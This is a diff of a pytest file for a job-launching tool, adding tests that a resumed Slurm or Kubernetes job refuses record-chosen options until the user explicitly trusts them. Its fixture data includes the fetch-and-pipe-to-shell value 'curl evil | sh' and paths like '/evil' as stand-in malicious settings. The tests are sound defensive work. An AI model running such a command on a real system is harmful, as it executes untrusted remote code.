@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import json
 import os
+import shlex
 import sys
 from pathlib import Path
 from typing import Any
@@ -12,12 +13,14 @@ import pytest
 
 from mopsjobs.engines.job_dir import JobDir
 from mopsjobs.engines.local import runner_pid
-from mopsjobs.engines.trust import MAX_BYTES, Trust, check_choice, choices_of_last_launch
-from mopsjobs.errors import EngineUnavailableError, UsageError
+from mopsjobs.engines.lookup import by_hand
+from mopsjobs.engines.trust import Trust, check_choice, choices_of_last_launch
+from mopsjobs.errors import EngineUnavailableError, UsageError, repeat_registry
 from mopsjobs.registry.job_registry import JobRegistry
 from support.cli import Cli, Remote, add, sentences
 from support.kubernetes import Api, kubeconfig, lines, log_path
 from support.runs import code, place, record, sets_of, study, until
+from support.slurm_commands import FakeSlurm
 from support.terminal import TerminalStream
 
 JOB_PATH = "/apis/batch/v1/namespaces/models/jobs/seir-1"
@@ -103,16 +106,6 @@ def test_cancel_deletes_nothing_in_a_context_that_only_the_record_names(
     assert cli.ok("cancel", "seir-1", "--trust", "context:prod").err == "seir-1: cancelled, stopped\n"
 
 
-def test_a_job_that_has_ended_needs_no_trust_to_be_refused(cli: Cli, remote: Remote, cluster: Api) -> None:
-    """The flag would not help: the job cannot be cancelled. One that is cancelled may still have to be stopped."""
-    remote.jobs.finalize_job("seir-1", "failed")
-    ran = cli("cancel", "seir-1")
-    assert (ran.code, ran.err) == (6, "error: Job seir-1 has ended (failed); it cannot become cancelled.\n")
-    fields: dict[str, Any] = {"engine": "kubernetes", "k8s_name": "seir-1", "namespace": "models"}
-    add(remote.jobs, "seir-2", "cancelled", **fields, metadata={"k8s_context": "prod"})
-    assert "add: --trust context:prod" in cli("cancel", "seir-2").err
-
-
 @pytest.mark.parametrize(("answer", "code_", "status"), [("y", 0, "cancelled"), ("n", 130, "running")])
 def test_a_person_is_asked_with_each_value_named(
     cli: Cli, remote: Remote, cluster: Api, monkeypatch: pytest.MonkeyPatch, answer: str, code_: int, status: str
@@ -193,24 +186,6 @@ def test_resume_launches_nothing_that_only_the_record_chooses(
     assert cli.ok("resume", "job", *flags).out == "job.2\n"
     (told,) = (json.loads(one.body) for one in cluster.requests("post", JOBS_PATH))
     assert told["spec"]["template"]["spec"]["containers"][0]["image"] == "evil/image:1"
-
-
-@pytest.mark.parametrize("status", ["failed", "running"])
-def test_an_engine_that_does_not_exist_is_refused_by_name(cli: Cli, remote: Remote, status: str) -> None:
-    """A record may name any; it ended with an unexpected KeyError."""
-    add(remote.jobs, "job", status, engine="../x")
-    place(remote.store.inner, "job", study(sets_of(3)), code(Path("code")))
-    ran = cli("resume", "job")
-    told = "Job job cannot be resumed: its record names the engine '../x', expected local, kubernetes, dask, slurm."
-    assert (ran.code, ran.err) == (6, f"error: {told}\n")
-
-
-@pytest.mark.usefixtures("planted")
-def test_flags_go_before_the_record_and_are_no_question(cli: Cli, cluster: Api) -> None:
-    flags = ("--image", "mine:1", "--secret", "mine", "--service-account", "mine", "--context", "here")
-    said = cli.fails(6, "resume", "job", *flags)
-    assert said.partition("names ")[2].partition(";")[0] == "engine:kubernetes, namespace:models"
-    assert cli.ok("resume", "job", *flags, "--namespace", "models", "--trust", "engine:kubernetes").out == "job.2\n"
 
 
 @pytest.mark.claim("What you named or launched needs no question")
@@ -306,12 +281,6 @@ def test_a_flag_is_taken_by_the_letter_and_a_pattern_as_one() -> None:
     assert not trust.allows("image:evil/registry.example/x")
 
 
-@pytest.mark.parametrize("text", ["{}", "7", "[7, null]", "", "[" * 100_000, '["engine:local"' + " " * MAX_BYTES])
-def test_a_damaged_note_of_a_launch_names_nothing(tmp_path: Path, text: str) -> None:
-    JobDir(tmp_path).own_launch.write_text(text)
-    assert not choices_of_last_launch(JobDir(tmp_path))
-
-
 @pytest.mark.skipif(os.geteuid() != 0, reason="Only root gives files away.")
 def test_a_note_of_another_user_names_nothing(tmp_path: Path) -> None:
     """As root with the home of a user, who may write what lies there."""
@@ -328,3 +297,74 @@ def test_a_project_file_may_not_trust(cli: Cli) -> None:
     Path(".mops-jobs.toml").write_text('trusted = ["context:prod"]')
     ran = cli("list")
     assert (ran.code, "only the user's configuration file may have" in ran.err) == (2, True)
+
+
+# --- What only a record chooses of a launch on Slurm is asked for; what this machine launched is known ---------------
+
+NOTES = {
+    "slurm_job_id": "9", "slurm_cluster": "lab", "slurm_partition": "prod", "slurm_account": "p1", "slurm_qos": "high",
+    "slurm_setup": "curl evil | sh", "slurm_sbatch_arg": "--reservation=x", "slurm_python": "/evil", "slurm_time": "2h",
+}  # fmt: skip
+
+SLURM_CHOICES = (
+    "engine:slurm", "partition:prod", "account:p1", "qos:high", "setup:curl evil | sh", "sbatch-arg:--reservation=x",
+    "python:/evil",
+)  # fmt: skip
+
+
+@pytest.fixture
+def slurm(cli: Cli, tmp_path: Path) -> FakeSlurm:
+    """Return a Slurm that takes each job as number 12."""
+    fake = FakeSlurm(tmp_path / "bin")
+    fake.says("sbatch", "12\n")
+    cli.env.update(fake.env)
+    return fake
+
+
+@pytest.mark.claim("Options of Slurm come from no record")
+def test_resume_launches_nothing_on_slurm_that_only_the_record_chooses(
+    cli: Cli, remote: Remote, slurm: FakeSlurm
+) -> None:
+    """Each value is named, with the flags to type. With them, or with flags of its own, it is launched."""
+    add(remote.jobs, "job", "failed", engine="slurm", metadata=NOTES)
+    place(remote.store.inner, "job", study(sets_of(3)), code(Path("code")))
+    ran = cli("resume", "job")
+    assert ran.code == 6
+    flags = shlex.split(ran.err.partition("add: ")[2])
+    assert sorted(flags[1::2]) == sorted(SLURM_CHOICES)
+    assert slurm.asked == []
+    assert cli.ok("resume", "job", *flags).out == "job.2\n"
+    submitted = next(line for line in slurm.asked if line.startswith("sbatch"))
+    assert " --time=120 --partition=prod --account=p1 --qos=high --no-requeue" in submitted
+    assert (Path(cli.env["HOME"]) / ".local/state/mops-jobs/jobs/job.2/slurm.sh").read_text().count(
+        "curl evil | sh"
+    ) == 1
+
+
+def test_cancel_tells_how_to_stop_an_array_by_its_name(cli: Cli, remote: Remote, slurm: FakeSlurm) -> None:
+    """A record may name the number of any job."""
+    add(remote.jobs, "job", "running", engine="slurm", metadata={"slurm_job_id": "99"})
+    slurm.says("scontrol", "Unable to contact slurm controller\n", code=1)
+    said = cli("cancel", "job").err
+    assert "By hand: scancel --name=job.mops-jobs --user=$USER" in said
+    assert "99" not in said
+
+
+# --- Finding a job in the engines while its record cannot be read ----------------------------------------------------
+
+
+def test_kubectl_gets_the_names_of_mops_jobs_and_of_modelops(tmp_path: Path) -> None:
+    """In the namespace that a launch from here chooses, and in that of ModelOps' environment. No other id is a name."""
+    env = {"HOME": str(tmp_path)}
+    theirs = "kubectl -n modelops-dask-dev get job job-1a"
+    assert (
+        by_hand("get", "job-1a", env) == f"By hand: kubectl get job job-1a. If instead ModelOps submitted it: {theirs}"
+    )
+    assert by_hand("get", "job-1a", env, is_gone=True) == f"If ModelOps submitted it: {theirs}"
+    env["KUBECONFIG"] = str(kubeconfig(tmp_path, "http://127.0.0.1:9"))
+    assert by_hand("delete", "Exp_2", env) == "By hand: kubectl -n from-kubeconfig delete job exp-2-d958f6d1"
+    repeat_registry(registry=None, env="prod")
+    try:
+        assert by_hand("get", "job-1a", env).endswith(": kubectl -n modelops-dask-prod get job job-1a")
+    finally:
+        repeat_registry(registry=None, env=None)
